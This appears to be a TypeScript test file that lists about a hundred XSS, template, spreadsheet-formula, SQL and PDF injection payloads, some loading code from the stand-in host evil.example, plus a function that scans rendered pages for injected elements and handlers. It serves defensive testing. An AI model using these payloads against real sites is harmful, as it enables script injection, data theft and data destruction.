/**
 * Somebody may type these into a field to inject code into the page: texts of one line, each at most 60 characters, because the
 * shortest free field takes that many. Injected elements have the id `xss`, and injected code calls `alert`.
 */

const elements = [
  '<script>alert(1)</script>',
  '<SCRIPT id=xss>alert(1)</SCRIPT>',
  '<script src=//evil.example/x.js></script>',
  '<script src=data:,alert(1)></script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script>alert(1)//',
  '<script\t>alert(1)</script >',
  '</script><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '--><script>alert(1)</script>',
  ']]><script>alert(1)</script>',
  '<iframe id=xss src=javascript:alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object id=xss data=javascript:alert(1)>',
  '<embed id=xss src=//evil.example/x.swf>',
  '<base id=xss href=//evil.example/>',
  '<link id=xss rel=stylesheet href=//evil.example>',
  '<meta http-equiv=refresh content="0;//evil.example">',
  '<form id=xss action=//evil.example><button>Pay',
  '<template id=xss><script>alert(1)</script>',
  '<noscript><p title="</noscript><img src onerror=alert(1)>">',
  '<plaintext id=xss>',
  '<frameset id=xss onload=alert(1)>',
];

const handlers = [
  '<img id=xss src=x onerror=alert(1)>',
  '<IMG id=xss SRC=x ONERROR=alert(1)>',
  '<img/src=x/onerror=alert(1)/id=xss>',
  '<img src=x onerror="alert`1`">',
  '<img src=x:alert(alt) onerror=eval(src) alt=1>',
  '<img src onerror=import("//evil.example")>',
  '<img srcset=//evil.example/x.png>',
  '<svg id=xss onload=alert(1)>',
  '<svg/onload=alert(1)//',
  '<body id=xss onload=alert(1)>',
  '<input id=xss autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)>',
  '<video id=xss><source onerror=alert(1)>',
  '<audio id=xss src onloadstart=alert(1)>',
  '<details id=xss open ontoggle=alert(1)>',
  '<marquee id=xss onstart=alert(1)>',
  '<a id=xss onmouseover=alert(1)>Report</a>',
  '<p id=xss onclick=alert(1)>Call us</p>',
  '<div style=animation-name:x onanimationstart=alert(1)>',
  '<button popovertarget=x onbeforetoggle=alert(1)>',
  '<xss id=xss tabindex=1 onfocus=alert(1)>',
  '<x contenteditable onblur=alert(1)>lose focus',
  '<img src=x oneonerrorrror=alert(1)>',
  '<<img src=x onerror=alert(1)//<',
  '<img src=x onerror\u00a0=alert(1)>',
];

const attributes = [
  '"><img src=x onerror=alert(1)>',
  "'><img src=x onerror=alert(1)>",
  '`><img src=x onerror=alert(1)>',
  '" autofocus onfocus=alert(1) x="',
  "' autofocus onfocus=alert(1) x='",
  '" onmouseover="alert(1)',
  "' onmouseover='alert(1)",
  '"/><xss id=xss>',
  '" style="background:url(//evil.example)',
  '" formaction="javascript:alert(1)',
  '\\"><script>alert(1)</script>',
  '&quot;><script>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '&#x3c;svg onload=alert(1)&#x3e;',
];

const addresses = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  ' javascript:alert(1)',
  'javascript&colon;alert(1)',
  'javascript://%0aalert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'vbscript:msgbox(1)',
  '//evil.example/x',
  'https://evil.example/"onmouseover="alert(1)',
  '<a id=xss href=javascript:alert(1)>x</a>',
  '[x](javascript:alert(1))',
  '![x](//evil.example/x.png)',
  '<javascript:alert(1)>',
];

const drawings = [
  '<svg><script>alert(1)</script>',
  '<svg><a href=javascript:alert(1)><text>x',
  '<svg><use href=data:image/svg+xml,x#x>',
  '<svg><animate onbegin=alert(1) attributeName=x>',
  '<svg><foreignObject><xss id=xss>',
  '<math><mtext><img src=x onerror=alert(1)>',
  '<math href=javascript:alert(1)>x',
  '<svg><style><img src=x onerror=alert(1)>',
  '<?xml-stylesheet href=javascript:alert(1)?>',
  '<!--<img src="--><img src=x onerror=alert(1)>',
];

const styles = [
  '<style>@import"//evil.example";</style>',
  '<style id=xss>*{display:none}</style>',
  '<p style="background:url(//evil.example)">',
  '}*{background:url(//evil.example)}',
  'expression(alert(1))',
];

const templates = [
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '#{alert(1)}',
  '<%= alert(1) %>',
  '{% raw %}<script>alert(1)</script>',
  '`-alert(1)-`',
  "'-alert(1)-'",
  '"-alert(1)-"',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '{"__html":"<img src=x onerror=alert(1)>"}',
];

const letters = [
  '\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E',
  '\u02BAonfocus=alert(1)\u02BA',
  '<script\u0085>alert(1)</script>',
  '<\u200bscript>alert(1)</script>',
  '\u202e>tpircs/<)1(trela>tpircs<',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '<ſcript>alert(1)</ſcript>',
];

const elsewhere = [
  '=HYPERLINK("//evil.example","x")',
  "=cmd|'/C calc'!A0",
  'Bcc: all@evil.example',
  '(/S /JavaScript /JS (app.alert(1)))',
  '>> /OpenAction << /S /Launch >>',
  "'; DROP TABLE patients; --",
  '*/alert(1)/*',
];

export const hostileTexts: readonly string[] = [
  elements,
  handlers,
  attributes,
  addresses,
  drawings,
  styles,
  templates,
  letters,
  elsewhere,
].flat();

/** These tags occur nowhere in our pages; a page's first rows and what search engines read are data blocks. */
export const foreignTags =
  'script:not([src^="/"], [type="application/json"], [type="application/ld+json"]), iframe, object, embed, base, frameset, xss, marquee, plaintext, math, noscript > *';

/**
 * Returns what in a page may have come from one of the texts: by its id, its tag, an event handler or an executable address. The
 * function is serialised into the browser, so it must not use anything from outside.
 */
export function foreignParts(tags: string, root: ParentNode = document): string[] {
  const running = /^\s*(?:javascript|vbscript|data:text)/i;
  // An address of ours may have the text in its query, where it is harmless.
  const leading = /^(?!\/[^/]).*evil\.example/i;
  // Each page of ours has this script (src/build/page-script.js), before anything that customers wrote.
  const own = root.querySelector('head > script');
  const isOwn = (element: Element) =>
    element === own && element.textContent.startsWith('{let e=document.documentElement.dataset;');
  const all = [...root.querySelectorAll(`#xss, ${tags}`)].filter((element) => !isOwn(element));
  const found = all.map(({ outerHTML }) => outerHTML.slice(0, 120));
  for (const element of root.querySelectorAll('*')) {
    for (const { name, value } of element.attributes) {
      const isAddress = ['href', 'src', 'srcset', 'action', 'formaction', 'data', 'xlink:href', 'srcdoc', 'style'].includes(name);
      const isBad = isAddress && (running.test(value) || leading.test(value));
      if (name.startsWith('on') || isBad) found.push(`${element.tagName} ${name}=${value}`);
    }
  }
  return found;
}
